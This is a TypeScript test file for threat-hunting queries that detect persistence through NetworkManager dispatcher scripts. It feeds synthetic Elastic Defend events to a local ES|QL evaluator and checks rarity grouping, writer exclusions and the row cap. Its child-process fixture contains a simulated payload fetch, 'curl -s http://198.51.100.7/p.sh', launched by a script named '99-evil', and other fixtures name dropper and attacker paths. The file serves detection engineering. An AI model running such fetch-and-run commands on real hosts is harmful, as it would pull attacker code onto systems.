import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { clusterOf, evaluateEsql, type StoredEvent } from '../functions/local/esql';
import { parseHuntConfig } from '../functions/core/hunt-config';
import { buildHuntRequest, buildSampleRequest } from '../functions/core/hunt-request';
import { HUNTS, huntById } from '../functions/core/hunts';
import { ROW_CAP, STATS_COLUMNS } from '../functions/core/hunts/hunt-definition';
import { NOW } from './support/esql';

/** The hunts' exact request (query text, parameters, filter), as the Lambda sends it, through the evaluator. */
const PROCESS = 'logs-endpoint.events.process-default';
const FILE = 'logs-endpoint.events.file-default';
const daysAgo = (d: number) => new Date(NOW - d * 86_400_000).toISOString();

const child = (agent: string, over: Record<string, unknown> = {}): StoredEvent => ({
  index: PROCESS,
  source: {
    '@timestamp': daysAgo(1),
    agent: { id: agent },
    host: { name: `host-${agent}`, os: { type: 'linux' } },
    event: { type: ['start'], action: 'exec', category: ['process'] },
    process: {
      executable: '/usr/bin/curl',
      command_line: 'curl -s http://198.51.100.7/p.sh',
      parent: { name: '99-evil', executable: '/etc/NetworkManager/dispatcher.d/99-evil', command_line: '/etc/NetworkManager/dispatcher.d/99-evil eth0 up', args: ['/etc/NetworkManager/dispatcher.d/99-evil', 'eth0', 'up'] },
    },
    ...over,
  },
});

const write = (agent: string, path: string, executable: string, over: Record<string, unknown> = {}): StoredEvent => ({
  index: FILE,
  source: {
    '@timestamp': daysAgo(2),
    agent: { id: agent },
    host: { name: `host-${agent}`, os: { type: 'linux' } },
    event: { type: ['creation'], action: 'creation', category: ['file'] },
    file: { path, name: path.split('/').at(-1) },
    process: { executable, name: executable.split('/').at(-1) },
    ...over,
  },
});

/** A script run by nm-dispatcher through bash, as Elastic Defend records it. */
const scriptRun = (agent: string, script: string, iface = 'eth0'): StoredEvent => ({
  index: PROCESS,
  source: {
    '@timestamp': daysAgo(1),
    agent: { id: agent },
    host: { name: `host-${agent}`, os: { type: 'linux' } },
    event: { type: ['start'], action: 'exec', category: ['process'] },
    process: {
      name: 'bash',
      executable: '/usr/bin/bash',
      command_line: `/bin/bash ${script} ${iface} up`,
      args: ['/bin/bash', script, iface, 'up'],
      parent: { name: 'nm-dispatcher', executable: '/usr/libexec/nm-dispatcher' },
    },
  },
});

const run = (huntId: string, events: StoredEvent[], config = parseHuntConfig({})) => {
  const request = buildHuntRequest(huntById(huntId)!, config);
  return evaluateEsql(request, clusterOf(events), { now: NOW });
};
const samples = (huntId: string, events: StoredEvent[], keys: string[]) => evaluateEsql(buildSampleRequest(huntById(huntId)!, parseHuntConfig({}), keys), clusterOf(events), { now: NOW });
const asRows = (result: ReturnType<typeof run>) => result.values.map((v) => Object.fromEntries(result.columns.map((c, i) => [c.name, v[i]])));

describe('the hunts’ exact queries, evaluated', () => {
  it('every hunt parses in both phases and returns its group, stats and sample columns, with no warning', () => {
    const events = [child('a1'), scriptRun('a1', '/etc/NetworkManager/dispatcher.d/99-evil'), write('a1', '/etc/NetworkManager/dispatcher.d/99-evil', '/usr/bin/bash')];
    for (const hunt of HUNTS) {
      const result = run(hunt.id, events);
      const names = result.columns.map((c) => c.name);
      for (const column of [...hunt.groupBy, ...STATS_COLUMNS]) assert.ok(names.includes(column), `${hunt.id}: ${column}`);
      assert.equal(result.values.length, 1, hunt.id);
      assert.deepEqual(result.warnings, [], hunt.id);
      const sampled = samples(hunt.id, events, ['/etc/NetworkManager/dispatcher.d/99-evil']);
      for (const column of [...hunt.groupBy, ...hunt.samples.map((s) => s.name)]) assert.ok(sampled.columns.some((c) => c.name === column), `${hunt.id}: sample ${column}`);
      assert.equal(sampled.values.length, 1, `${hunt.id}: samples for the rare group`);
      assert.deepEqual(sampled.warnings, [], hunt.id);
    }
  });

  it('dispatcher-script-child: groups by script, child and masked command line, keeps rare rows, samples hosts for them only', () => {
    const events = [
      ...['a1', 'a2', 'a3', 'a4'].map((a) => child(a, { process: { executable: '/usr/bin/logger', command_line: 'logger up', parent: { name: '01-ifupdown', executable: '/etc/NetworkManager/dispatcher.d/01-ifupdown' } } })),
      child('a1'),
      child('a1'),
      child('a9', { '@timestamp': daysAgo(40) }),
      child('a1', { event: { type: ['start'], action: 'fork' } }),
    ];
    const rows = asRows(run('dispatcher-script-child', events));
    assert.equal(rows.length, 1, 'the logger child runs on 4 agents: not rare; the 40-day-old event is outside the lookback; fork is not exec');
    assert.equal(rows[0]!.event_count, 2);
    assert.equal(rows[0]!.agent_count, 1);
    assert.equal(rows[0]!.first_seen, daysAgo(1));
    const sampled = asRows(samples('dispatcher-script-child', events, ['/etc/NetworkManager/dispatcher.d/99-evil', '/etc/NetworkManager/dispatcher.d/01-ifupdown']));
    assert.deepEqual(sampled.map((r) => [r.parent_script, r.host_names]), [['/etc/NetworkManager/dispatcher.d/99-evil', 'host-a1']], 'the common logger group gets no samples');
  });

  it('dispatcher-script-run: a fleet-wide script seeing a rare new interface is not a rare row', () => {
    const common = '/etc/NetworkManager/dispatcher.d/01-ifupdown';
    const events = [...['a1', 'a2', 'a3', 'a4', 'a5'].map((a) => scriptRun(a, common)), scriptRun('a6', common, 'enx00e04c68a1b2'), scriptRun('a1', '/etc/NetworkManager/dispatcher.d/99-rare')];
    assert.deepEqual(asRows(run('dispatcher-script-run', events)).map((r) => r.script), ['/etc/NetworkManager/dispatcher.d/99-rare']);
  });

  it('dispatcher-script-write: drops trusted writers by the request filter and the query, keeps the rest', () => {
    const config = parseHuntConfig({ exclusions: { 'dispatcher-script-write': ['/opt/ansible/bin/python3', '/opt/salt/*'] } });
    const events = [
      write('a1', '/etc/NetworkManager/dispatcher.d/99-evil', '/usr/bin/bash'),
      write('a1', '/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/dpkg'),
      write('a1', '/etc/NetworkManager/dispatcher.d/02-ansible', '/opt/ansible/bin/python3'),
      write('a1', '/etc/NetworkManager/dispatcher.d/03-salt', '/opt/salt/bin/salt-minion'),
      write('a2', '/usr/lib/NetworkManager/dispatcher.d/no-wait.d/10-x', '/tmp/.x/dropper'),
    ];
    const result = run('dispatcher-script-write', events, config);
    const paths = result.values.map((v) => v[result.columns.findIndex((c) => c.name === 'file.path')]).sort();
    assert.deepEqual(paths, ['/etc/NetworkManager/dispatcher.d/99-evil', '/usr/lib/NetworkManager/dispatcher.d/no-wait.d/10-x']);
  });

  it('returns every rare group up to 10,000, the most recent first, so decoys cannot push a new row out below the cap', () => {
    const decoys = Array.from({ length: ROW_CAP + 50 }, (_, i) => write(`a${i % 2}`, `/etc/NetworkManager/dispatcher.d/decoy-${i}`, '/usr/bin/bash', { '@timestamp': daysAgo(3) }));
    const attacker = write('a7', '/etc/NetworkManager/dispatcher.d/zz-attacker', '/usr/bin/python3', { '@timestamp': daysAgo(0.5) });
    const result = run('dispatcher-script-write', [...decoys, attacker]);
    assert.equal(result.values.length, ROW_CAP);
    const path = result.columns.findIndex((c) => c.name === 'file.path');
    assert.equal(result.values[0]![path], '/etc/NetworkManager/dispatcher.d/zz-attacker', 'the newest activity survives the cut');
    const below = run('dispatcher-script-write', [...decoys.slice(0, 150), attacker]);
    assert.equal(below.values.length, 151, 'below the cap nothing is cut');
  });
});

describe('what the evaluator shows about the hunts’ assumptions', () => {
  // event.type is an array in ECS; a sensor reporting two types makes `event.type == "start"` null (with a warning).
  it('an event with several event.type values is dropped by both hunts, with a warning', () => {
    const result = run('dispatcher-script-child', [child('a1', { event: { type: ['start', 'change'], action: 'exec' } })]);
    assert.equal(result.values.length, 0);
    assert.match(result.warnings.join('\n'), /evaluation of \[event\.type == "start"\] failed, treating result as null/);
    const writeResult = run('dispatcher-script-write', [write('a1', '/etc/NetworkManager/dispatcher.d/x', '/usr/bin/bash', { event: { type: ['creation', 'change'] } })]);
    assert.equal(writeResult.values.length, 0);
    assert.match(writeResult.warnings.join('\n'), /evaluation of \[event\.type IN \("creation", "change"\)\] failed/);
  });

  // process.executable is a keyword with ignore_above 1024: a longer path reads as null.
  it('a writer path longer than 1,024 characters is read as null: the row has no writer identity', () => {
    const long = `/tmp/${'a'.repeat(1100)}/w`;
    const result = run('dispatcher-script-write', [write('a1', '/etc/NetworkManager/dispatcher.d/x', long)]);
    assert.equal(result.values.length, 1);
    assert.equal(result.values[0]![result.columns.findIndex((c) => c.name === 'process.executable')], null);
  });

  it('a multi-valued parent name or executable drops a row, with a warning', () => {
    const result = run('dispatcher-script-run', [child('a1', { process: { executable: '/bin/sh', command_line: 'sh', parent: { name: ['nm-dispatcher', 'x'], executable: ['/usr/libexec/nm-dispatcher', '/x'] } } })]);
    assert.equal(result.values.length, 0);
    assert.ok(result.warnings.some((w) => w.includes('single-value function encountered multi-value')));
  });
});
